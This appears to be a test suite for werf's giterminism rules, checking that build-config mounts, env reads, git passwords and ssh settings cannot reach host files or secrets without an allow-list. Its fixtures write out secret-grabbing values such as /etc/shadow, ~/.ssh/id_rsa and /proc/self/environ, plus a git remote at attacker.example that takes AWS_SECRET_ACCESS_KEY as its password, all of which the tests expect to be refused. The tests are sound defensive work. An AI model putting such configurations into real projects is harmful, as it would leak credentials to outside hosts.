// What werf.yaml may take from the host: `{{ env }}` only the variables werf-giterminism.yaml allows
// (config.goTemplateRendering.allowEnvVariables), `mount: fromPath` outside the project only the paths it allows
// (config.stapel.mount.allowFromPaths); everything else is refused, located at the mount.
import assert from "node:assert/strict";
import * as fs from "node:fs";
import * as path from "node:path";
import { test } from "node:test";
import { UserError } from "../../src/diagnostics.js";
import { loadWerfConfig } from "../../src/config/index.js";
import { checkHostPaths, loadGiterminism, parseGiterminism } from "../../src/config/giterminism.js";
import { ProjectFiles } from "../../src/project/files.js";
import { renderWerfConfig } from "../../src/template/render.js";
import { TemplateError } from "../../src/template/template.js";
import { tempDir } from "../git/gitFixture.js";

function project(files: Record<string, string>, links: Record<string, string> = {}): string {
  const dir = tempDir("sec-host");
  for (const [rel, content] of Object.entries(files)) {
    fs.mkdirSync(path.dirname(path.join(dir, rel)), { recursive: true });
    fs.writeFileSync(path.join(dir, rel), content);
  }
  for (const [rel, target] of Object.entries(links)) fs.symlinkSync(target, path.join(dir, rel));
  return dir;
}

const HEAD = "project: p\nconfigVersion: 1\n---\nimage: app\nfrom: alpine\nmount:\n";

/** Renders, loads and checks the mounts of the project in `dir`; the diagnostics as "file:line:col message". */
async function hostPathErrors(dir: string, giterminismConfig?: string): Promise<string[]> {
  const rendered = await renderWerfConfig({ dir, environ: {}, ...(giterminismConfig ? { giterminismConfig } : {}) });
  try {
    checkHostPaths(loadWerfConfig(rendered), new ProjectFiles(dir), rendered.giterminism);
    return [];
  } catch (e) {
    assert.ok(e instanceof UserError);
    for (const d of e.diagnostics) assert.match(d.hint ?? "", /config\.stapel\.mount\.allowFromPaths/);
    return e.diagnostics.map((d) => `${d.pos?.file}:${d.pos?.line}:${d.pos?.col} ${d.message}`);
  }
}

test("fromPath: absolute, ~, .. and a link leading out are refused at their mount; project paths are fine", async () => {
  const outside = tempDir("sec-out");
  const dir = project(
    {
      "werf.yaml":
        HEAD +
        "- fromPath: /run\n  to: /a\n" +
        "- fromPath: ~/.ssh\n  to: /b\n" +
        "- fromPath: ../x\n  to: /c\n" +
        "- fromPath: cache\n  to: /d\n" +
        "- fromPath: linked\n  to: /e\n" +
        "- fromPath: not-yet/made\n  to: /f\n" +
        "- from: build_dir\n  to: /g\n",
      "cache/.keep": "",
    },
    { linked: outside },
  );
  assert.deepEqual(await hostPathErrors(dir), [
    'werf.yaml:7:3 "mount { fromPath: /run, ... }" not allowed by giterminism: the path leads outside the project directory',
    'werf.yaml:9:3 "mount { fromPath: ~/.ssh, ... }" not allowed by giterminism: the path leads outside the project directory',
    'werf.yaml:11:3 "mount { fromPath: ../x, ... }" not allowed by giterminism: the path leads outside the project directory',
    'werf.yaml:15:3 "mount { fromPath: linked, ... }" not allowed by giterminism: the path leads outside the project directory',
  ]);
});

test("config.stapel.mount.allowFromPaths allows host paths (exact, a parent, globs, ~ as written)", async () => {
  const dir = project({
    "werf.yaml": HEAD + "- fromPath: ~/go-pkg-cache\n  to: /a\n- fromPath: /var/cache/apt/archives\n  to: /b\n- fromPath: /opt/x/y\n  to: /c\n- fromPath: /etc\n  to: /d\n",
    "werf-giterminism.yaml": "giterminismConfigVersion: 1\nconfig:\n  stapel:\n    mount:\n      allowBuildDir: true\n      allowFromPaths:\n      - ~/go-pkg-cache\n      - /var/cache\n      - /opt/*/y\n",
  });
  assert.deepEqual(await hostPathErrors(dir), ['werf.yaml:13:3 "mount { fromPath: /etc, ... }" not allowed by giterminism: the path leads outside the project directory']);
});

test("--giterminism-config takes the allow-lists from the operator's file instead of the project's", async () => {
  const trusted = path.join(tempDir("sec-trusted"), "werf-giterminism.yaml");
  fs.writeFileSync(trusted, "giterminismConfigVersion: 1\nconfig:\n  stapel:\n    mount:\n      allowFromPaths: [/srv/cache]\n");
  const dir = project({
    "werf.yaml": HEAD + "- fromPath: /srv/cache\n  to: /a\n- fromPath: /\n  to: /b\n",
    "werf-giterminism.yaml": "giterminismConfigVersion: 1\nconfig:\n  stapel:\n    mount:\n      allowFromPaths: ['**/*', '/']\n",
  });
  assert.deepEqual(await hostPathErrors(dir), []); // the branch's own file allows everything...
  assert.deepEqual(await hostPathErrors(dir, trusted), ['werf.yaml:9:3 "mount { fromPath: /, ... }" not allowed by giterminism: the path leads outside the project directory']);
  await assert.rejects(renderWerfConfig({ dir, giterminismConfig: "missing.yaml" }), /giterminism config missing\.yaml: no such file/);
});

test("env reads only allowed variables; a refused one reads as unset with a warning, or fails with --strict-env", async () => {
  const environ = { CI_JOB_TOKEN: "secret-token", GOPROXY: "https://proxy", CI_COMMIT_TAG: "v1" };
  const text = 'a: "{{ env "CI_JOB_TOKEN" }}"\nb: "{{ env "GOPROXY" }}"\nc: "{{ env "CI_COMMIT_TAG" }}"\nd: "{{ env "AWS_SECRET" "none" }}"\n';
  const none = project({ "werf.yaml": text });
  const r = await renderWerfConfig({ dir: none, environ });
  assert.equal(r.text, 'a: ""\nb: ""\nc: ""\nd: "none"\n');
  assert.deepEqual(
    r.warnings.map((w) => w.message),
    ["AWS_SECRET", "CI_COMMIT_TAG", "CI_JOB_TOKEN", "GOPROXY"].map(
      (n) => `{{ env "${n}" }} read as unset: the variable is not in config.goTemplateRendering.allowEnvVariables of werf-giterminism.yaml`,
    ),
  );
  const allowed = project({ "werf.yaml": text, "werf-giterminism.yaml": "giterminismConfigVersion: 1\nconfig:\n  goTemplateRendering:\n    allowEnvVariables: [GOPROXY, /CI_COMMIT_.+/]\n" });
  const r2 = await renderWerfConfig({ dir: allowed, environ });
  assert.equal(r2.text, 'a: ""\nb: "https://proxy"\nc: "v1"\nd: "none"\n');
  await assert.rejects(renderWerfConfig({ dir: allowed, environ, strictEnv: true }), (e: unknown) => {
    assert.ok(e instanceof TemplateError);
    assert.equal(e.pos.line, 1);
    assert.match(e.message, /the configuration with potential external dependency found in the werf config: env name "CI_JOB_TOKEN" not allowed by giterminism/);
    assert.ok(!e.message.includes("secret-token"));
    return true;
  });
});

test("a malformed werf-giterminism.yaml is a located error", () => {
  assert.throws(
    () => parseGiterminism("giterminismConfigVersion: 1\nconfig:\n  stapel:\n    mount:\n      allowFromPaths: /x\n      allowBuildDir: yes please\n  goTemplateRendering:\n    allowEnvVariables: ['/(/']\n", "werf-giterminism.yaml"),
    (e: unknown) => {
      assert.ok(e instanceof UserError);
      assert.deepEqual(
        e.diagnostics.map((d) => `${d.pos?.line}:${d.pos?.col} ${d.message.replace(/: error parsing regexp: missing closing \): `\(`$/, "")}`),
        ["5:23 config.stapel.mount.allowFromPaths must be a list of strings", "6:22 config.stapel.mount.allowBuildDir must be true or false", "8:25 config.goTemplateRendering.allowEnvVariables: invalid regexp /(/"],
      );
      return true;
    },
  );
  // a link to a file outside is not followed for it either
  const dir = project({}, { "werf-giterminism.yaml": "/etc/hostname" });
  assert.throws(() => loadGiterminism(new ProjectFiles(dir)), /giterminism config "werf-giterminism\.yaml" is a symbolic link/);
});

test("a remote git password comes only from variables and host files config.secrets allows", async () => {
  const git = (password: string) =>
    `project: p\nconfigVersion: 1\n---\nimage: app\nfrom: alpine\ngit:\n- url: https://attacker.example/x.git\n  tag: v1\n  to: /x\n  basicAuth:\n    username: u\n    password: {${password}}\n`;
  const check = async (password: string, giterminism?: string, links: Record<string, string> = {}) => {
    const files: Record<string, string> = { "werf.yaml": git(password), "pw.txt": "p" };
    if (giterminism) files["werf-giterminism.yaml"] = giterminism;
    const dir = project(files, links);
    const rendered = await renderWerfConfig({ dir, environ: {} });
    try {
      checkHostPaths(loadWerfConfig(rendered), new ProjectFiles(dir), rendered.giterminism);
      return "ok";
    } catch (e) {
      assert.ok(e instanceof UserError);
      assert.match(e.diagnostics[0]!.hint ?? "", /config\.secrets\.allow(EnvVariables|Files)/);
      return e.diagnostics.map((d) => `${d.pos?.line}:${d.pos?.col} ${d.message}`).join("\n");
    }
  };
  assert.equal(await check("env: AWS_SECRET_ACCESS_KEY"), '7:3 basicAuth.password.env "AWS_SECRET_ACCESS_KEY" not allowed by giterminism (git https://attacker.example/x.git)');
  assert.equal(await check("env: GIT_PW", "giterminismConfigVersion: 1\nconfig:\n  secrets:\n    allowEnvVariables: [GIT_PW]\n"), "ok");
  assert.equal(await check("src: /etc/shadow"), '7:3 basicAuth.password.src "/etc/shadow" not allowed by giterminism: the file is outside the project directory');
  assert.equal(await check("src: ~/.docker/config.json"), '7:3 basicAuth.password.src "~/.docker/config.json" not allowed by giterminism: the file is outside the project directory');
  assert.equal(await check("src: ~/.git-pw", "giterminismConfigVersion: 1\nconfig:\n  secrets:\n    allowFiles: [~/.git-pw]\n"), "ok");
  assert.equal(await check("src: pw.txt"), "ok");
  assert.match(await check("src: leak", undefined, { leak: "/proc/self/environ" }), /basicAuth\.password\.src "leak" not allowed by giterminism/);
  assert.equal(await check("value: inline"), "ok");
});

test("a Dockerfile image's context or Dockerfile reached through a link leading outside is refused", async () => {
  const outside = tempDir("sec-ctx");
  fs.writeFileSync(path.join(outside, "Dockerfile"), "FROM scratch\n");
  const doc = (context: string, dockerfile: string) => `project: p\nconfigVersion: 1\n---\nimage: web\ndockerfile: ${dockerfile}\ncontext: ${context}\n`;
  const check = async (files: Record<string, string>, links: Record<string, string>) => {
    const dir = project(files, links);
    const rendered = await renderWerfConfig({ dir, environ: {} });
    try {
      checkHostPaths(loadWerfConfig(rendered), new ProjectFiles(dir), rendered.giterminism);
      return ["ok"];
    } catch (e) {
      assert.ok(e instanceof UserError);
      return e.diagnostics.map((d) => `${d.pos?.line}:${d.pos?.col} ${d.message}`);
    }
  };
  assert.deepEqual(await check({ "werf.yaml": doc("hostroot", "Dockerfile") }, { hostroot: outside }), [
    "4:1 `context: hostroot` leads outside the project directory",
    "4:1 `dockerfile: Dockerfile` leads outside the project directory",
  ]);
  assert.deepEqual(await check({ "werf.yaml": doc("app", "Dockerfile") }, {}), ["ok"]);
  const inside = project({ "werf.yaml": doc("app", "Dockerfile"), "app/.keep": "" }, {});
  fs.symlinkSync(path.join(outside, "Dockerfile"), path.join(inside, "app/Dockerfile"));
  const rendered = await renderWerfConfig({ dir: inside, environ: {} });
  assert.throws(() => checkHostPaths(loadWerfConfig(rendered), new ProjectFiles(inside), rendered.giterminism), /`dockerfile: Dockerfile` leads outside the project directory/);
});

test("an empty `from` behind a refused variable says which allow-list to extend", async () => {
  const dir = project({ "werf.yaml": 'project: p\nconfigVersion: 1\n---\nimage: app\nfrom: {{ env "BASE_IMAGE" }}\n' });
  const rendered = await renderWerfConfig({ dir, environ: { BASE_IMAGE: "alpine:3.20" } });
  assert.deepEqual(rendered.refusedEnv, ["BASE_IMAGE"]);
  assert.throws(() => loadWerfConfig(rendered), (e: unknown) => {
    assert.ok(e instanceof UserError);
    assert.match(
      e.diagnostics[0]!.hint ?? "",
      /; "BASE_IMAGE" is not read from the environment until werf-giterminism\.yaml allows it \(config\.goTemplateRendering\.allowEnvVariables\)$/,
    );
    return true;
  });
});

test("a Dockerfile image's ssh may name sockets or keys inside the project only; the build machine's agent is the operator's", async () => {
  const errors = async (ssh: string, links: Record<string, string> = {}) => {
    const dir = project({ "werf.yaml": `project: p\nconfigVersion: 1\n---\nimage: web\ndockerfile: Dockerfile\nssh: ${JSON.stringify(ssh)}\n`, "Dockerfile": "FROM scratch\n", "keys/id": "k" }, links);
    const rendered = await renderWerfConfig({ dir, environ: {} });
    try {
      checkHostPaths(loadWerfConfig(rendered), new ProjectFiles(dir), rendered.giterminism);
      return "ok";
    } catch (e) {
      assert.ok(e instanceof UserError);
      return e.diagnostics.map((d) => d.message).join("\n");
    }
  };
  assert.equal(await errors("default"), "ok");
  assert.equal(await errors("github=keys/id"), "ok");
  assert.match(await errors("default=/run/user/0/agent.sock"), /ssh "default=\/run\/user\/0\/agent\.sock" of image "web": "\/run\/user\/0\/agent\.sock" is not a path inside the project/);
  assert.match(await errors("github=keys/id,~/.ssh/id_rsa"), /"~\/\.ssh\/id_rsa" is not a path inside the project/);
  assert.match(await errors("github=linked", { linked: "/etc" }), /"linked" is not a path inside the project/);
  assert.match(await errors("bad id"), /"bad id" is not an agent id/);
});
